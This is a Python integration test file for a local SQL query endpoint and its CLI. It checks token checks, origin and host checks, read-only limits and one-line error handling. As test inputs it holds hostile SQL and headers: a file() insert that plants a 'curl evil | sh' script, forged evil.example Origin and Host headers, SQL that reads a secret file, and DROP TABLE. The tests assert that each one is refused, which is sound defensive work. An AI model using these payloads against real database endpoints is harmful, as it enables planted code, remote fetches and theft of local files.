"""The query endpoint against real chDB over real HTTP (port 0), with ``batchscope query`` run
through ``batchscope.cli.main`` in the same process, as it runs beside ``batchscope run``.

Point 1 of issue 12: what a browser page could send is refused and writes nothing; the CLI,
holding the token, works. Point 2: no statement sent here reaches the sink's session. Point 3:
the endpoint's limits stop a runaway query and a huge result while the sink inserts. Point 15:
every answer is a result or one line, never a traceback.
"""

from __future__ import annotations

import asyncio
import http.client
import os
import socket
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson
import pytest
from aiohttp import web

from batchscope.cli import main
from pipeline.clickhouse.queries import INFO_FILE, TOKEN_FILE, running_endpoint
from pipeline.clickhouse.queryserver import QueryServer
from pipeline.clickhouse.store import Store
from pipeline.config import Settings, load_settings

pytestmark = pytest.mark.integration

ACK = "INSERT INTO batch_output_acks (source, batch_id, consumer) VALUES ('openai-prod', 'batch_abc', 'etl')"
RUNAWAY = "SELECT count() FROM numbers(100000000000) WHERE sipHash64(number) = 0"
TIMEOUT = 2.0


@dataclass
class Served:
    settings: Settings
    config: Path
    sink: Store
    server: QueryServer
    loop: asyncio.AbstractEventLoop

    @property
    def data_dir(self) -> Path:
        return self.settings.pipeline.data_path

    @property
    def token(self) -> str:
        return (self.data_dir / TOKEN_FILE).read_text(encoding="ascii")

    def acks(self) -> int:
        return int(self.sink.query("SELECT count() FROM batch_output_acks").rows[0][0])

    def sink_insert(self, token: str) -> float:
        """One insert on the sink's own store; returns the seconds it took."""
        started = time.monotonic()
        row = orjson.dumps({"source": "sink", "batch_id": token})
        self.sink.insert_json("batch_output_acks", [row], token)
        return time.monotonic() - started


def write_config(tmp: Path) -> Path:
    config = tmp / "batchscope.toml"
    config.write_text(f"""[pipeline]
data_dir = "{tmp / 'data'}"
http_port = 0
query_timeout = {TIMEOUT}
query_max_rows = 1000
query_max_memory_mib = 64
""", encoding="utf-8")
    return config


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    """A migrated chDB (the sink's store) and a QueryServer on its own event loop thread."""
    config = write_config(tmp_path)
    settings = load_settings(config, env={})
    sink = Store.from_settings(settings)
    sink.migrate()
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    server = QueryServer(settings)
    try:
        asyncio.run_coroutine_threadsafe(server.start(), loop).result(30)
        yield Served(settings, config, sink, server, loop)
    finally:
        asyncio.run_coroutine_threadsafe(server.stop(), loop).result(60)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        loop.close()
        sink.close()


def cli(served: Served, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["--config", str(served.config), *args])
    out, err = capsys.readouterr()
    return code, out, err


def one_line(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert "Traceback" not in err
    return lines[0]


def post(served: Served, body: bytes, headers: dict[str, str]) -> tuple[int, dict[str, Any]]:
    host, port = served.server.url.removeprefix("http://").rsplit(":", 1)
    conn = http.client.HTTPConnection(host, int(port), timeout=30)
    try:
        conn.request("POST", "/query", body=body, headers=headers)
        resp = conn.getresponse()
        return resp.status, orjson.loads(resp.read())
    finally:
        conn.close()


# Point 1 ------------------------------------------------------------------------------------


def test_what_a_browser_page_could_send_is_refused_and_writes_nothing(served: Served, tmp_path: Path) -> None:
    planted = tmp_path / "planted.sh"
    here = served.server.url.removeprefix("http://")
    good = {"Host": here, "Content-Type": "application/json", "Authorization": f"Bearer {served.token}"}
    attempts = [
        (415, {**good, "Content-Type": "text/plain"}),
        (403, {**good, "Origin": "https://evil.example"}),
        (403, {**good, "Origin": "null"}),
        (403, {**good, "Host": f"evil.example:{here.rsplit(':', 1)[1]}"}),
        (403, {**good, "Host": "localhost:1"}),
        (401, {k: v for k, v in good.items() if k != "Authorization"}),
        (401, {**good, "Authorization": "Bearer " + "x" * len(served.token)}),
        (401, {**good, "Authorization": f"Basic {served.token}"}),
    ]
    statements = [ACK, f"INSERT INTO FUNCTION file('{planted}', 'LineAsString') VALUES ('curl evil | sh')"]
    for status, headers in attempts:
        for sql in statements:
            got, body = post(served, orjson.dumps({"sql": sql, "write": True}), headers)
            assert got == status, (headers, body)
            assert body["error"].startswith("refused:")
            assert served.token not in body["error"]
    assert served.acks() == 0
    assert not planted.exists()


def test_the_cli_holding_the_token_reads_and_acknowledges(served: Served,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    assert running_endpoint(served.data_dir) is not None
    assert cli(served, capsys, "query", "--write", ACK)[0] == 0
    code, out, _ = cli(served, capsys, "query", "SELECT source, batch_id, consumer FROM batch_output_acks",
                       "--format", "json")
    assert code == 0
    assert orjson.loads(out) == [{"source": "openai-prod", "batch_id": "batch_abc", "consumer": "etl"}]
    code, out, _ = cli(served, capsys, "status")
    assert code == 0
    assert "FLEET" in out


def test_files_are_neither_read_nor_written_through_the_endpoint(served: Served, tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("do-not-leak", encoding="utf-8")
    out_file = tmp_path / "out.txt"
    for sql in (f"SELECT file('{secret}')", f"SELECT * APPLY(file) FROM (SELECT '{secret}' AS p)",
                f"SELECT * FROM file('{secret}', 'LineAsString')", f"SELECT 1 INTO OUTFILE '{out_file}'",
                "SELECT * FROM url('http://127.0.0.1:1/', 'LineAsString')", "SYSTEM DROP DNS CACHE",
                "DROP TABLE batch_output_acks", f"SELECT 1; SELECT file('{secret}')"):
        for write in ((), ("--write",)):
            code, out, err = cli(served, capsys, "query", sql, *write)
            assert code == 1, sql
            assert "do-not-leak" not in out + err
            one_line(err)
    assert not out_file.exists()
    assert served.acks() == 0
    code, _, err = cli(served, capsys, "query", ACK)
    assert code == 1
    assert "read-only" in one_line(err)


def test_the_token_file_is_the_owners_only_and_goes_on_stop(served: Served) -> None:
    token_file = served.data_dir / TOKEN_FILE
    assert token_file.stat().st_mode & 0o777 == 0o600
    asyncio.run_coroutine_threadsafe(served.server.stop(), served.loop).result(60)
    assert not token_file.exists()
    assert not (served.data_dir / INFO_FILE).exists()


# Point 2 ------------------------------------------------------------------------------------


def test_no_statement_through_the_endpoint_reaches_the_sinks_session(
        served: Served, capsys: pytest.CaptureFixture[str]) -> None:
    answers = []
    for n, sql in enumerate(("SET readonly = 1", "SET max_memory_usage = 1", "SELECT 1 SETTINGS readonly = 2",
                             "SET readonly = 1; SELECT 1")):
        answers.append(cli(served, capsys, "query", "--write", sql))
        served.sink_insert(f"after-{n}")  # READONLY here is the bug: the sink would retry for ever
    assert served.acks() == len(answers)
    for code, _, err in answers:
        assert code == 1
        one_line(err)
    code, out, _ = cli(served, capsys, "query", "SELECT count() FROM batch_output_acks")
    assert code == 0
    assert "4\n(1 row)" in out


# Point 3 ------------------------------------------------------------------------------------


def test_a_runaway_query_is_stopped_while_the_sink_inserts(served: Served,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    with ThreadPoolExecutor(1) as pool:
        started = time.monotonic()
        runaway = pool.submit(main, ["--config", str(served.config), "query", RUNAWAY])
        time.sleep(0.5)
        insert_seconds = [served.sink_insert(f"during-{i}") for i in range(3)]
        assert not runaway.done(), "the runaway query ended before the sink's inserts were measured"
        assert runaway.result(timeout=60) == 1
        elapsed = time.monotonic() - started
    assert max(insert_seconds) < TIMEOUT / 2, insert_seconds  # not queued behind the runaway query
    assert elapsed < TIMEOUT + 10
    assert "pipeline.query_timeout (2 s)" in one_line(capsys.readouterr().err)
    code, _, err = cli(served, capsys, "query", RUNAWAY + " SETTINGS max_execution_time = 1000")
    assert code == 1
    assert "readonly" in one_line(err)  # a caller cannot lift a limit


def test_huge_results_and_memory_hungry_queries_are_refused(served: Served,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = cli(served, capsys, "query", "SELECT number FROM numbers(5000)")
    assert code == 1
    assert "pipeline.query_max_rows (1000)" in one_line(err)
    code, _, err = cli(served, capsys, "query", "SELECT groupArray(number) FROM numbers(100000000)")
    assert code == 1
    assert "pipeline.query_max_memory_mib (64 MiB)" in one_line(err)
    assert cli(served, capsys, "query", "SELECT number FROM numbers(1000)")[0] == 0
    served.sink_insert("after-limits")
    assert served.acks() == 1


# Point 15 -----------------------------------------------------------------------------------


def test_every_column_type_comes_back_as_a_result(served: Served, capsys: pytest.CaptureFixture[str]) -> None:
    sql = ("SELECT toIPv4('10.1.2.3') AS v4, toIPv6('::1') AS v6, map(1, 'a', 2, 'b') AS m, "
           "map((1, 2), 'x') AS tm, toUUID('00000000-0000-0000-0000-000000000001') AS u, "
           "toDecimal64(1.5, 2) AS d, toUInt256('340282366920938463463374607431768211456') AS big, "
           "CAST('a', 'Enum8(\\'a\\' = 1)') AS e, (1, 'x') AS t, [toDate('2026-01-02')] AS days")
    for fmt in ("json", "table", "csv"):
        code, out, err = cli(served, capsys, "query", sql, "--format", fmt)
        assert code == 0, err
    code, out, _ = cli(served, capsys, "query", sql, "--format", "json")
    row = orjson.loads(out)[0]
    assert row["v4"] == "10.1.2.3"
    assert row["v6"] == "::1"
    assert row["m"] == {"1": "a", "2": "b"}
    assert row["u"] == "00000000-0000-0000-0000-000000000001"
    assert row["d"] == "1.50"
    assert row["big"] == "340282366920938463463374607431768211456"


def test_sql_over_the_size_cap_is_one_line(served: Served, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = cli(served, capsys, "query", "SELECT '" + "x" * (1 << 20) + "'")
    assert code == 1
    assert "1 MiB" in one_line(err)


def fake_endpoint(served: Served, url: str) -> None:
    """Point the data directory's pipeline.json at ``url`` (the live pid: this process)."""
    (served.data_dir / INFO_FILE).write_text(orjson.dumps({"pid": os.getpid(), "url": url}).decode(),
                                             encoding="utf-8")


def test_plain_text_errors_and_dropped_connections_are_one_line(served: Served,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    async def plain_413(request: web.Request) -> web.Response:
        return web.Response(status=413, text="Request Entity Too Large\n\nsome html-ish text")

    async def serve_plain() -> web.AppRunner:
        app = web.Application()
        app.add_routes([web.post("/query", plain_413)])
        runner = web.AppRunner(app)
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        return runner

    runner = asyncio.run_coroutine_threadsafe(serve_plain(), served.loop).result(30)
    port = runner.addresses[0][1]
    try:
        fake_endpoint(served, f"http://127.0.0.1:{port}")
        code, _, err = cli(served, capsys, "query", "SELECT 1")
        assert code == 1
        assert "HTTP 413: Request Entity Too Large" in one_line(err)
    finally:
        asyncio.run_coroutine_threadsafe(runner.cleanup(), served.loop).result(30)

    with socket.socket() as listener:  # accepts, reads the request, closes without an answer
        listener.bind(("127.0.0.1", 0))
        listener.listen()

        def drop() -> None:
            conn, _ = listener.accept()
            conn.recv(65536)
            conn.close()

        dropper = threading.Thread(target=drop, daemon=True)
        dropper.start()
        fake_endpoint(served, f"http://127.0.0.1:{listener.getsockname()[1]}")
        code, _, err = cli(served, capsys, "query", "SELECT 1")
        dropper.join(10)
    assert code == 1
    assert "did not answer" in one_line(err)
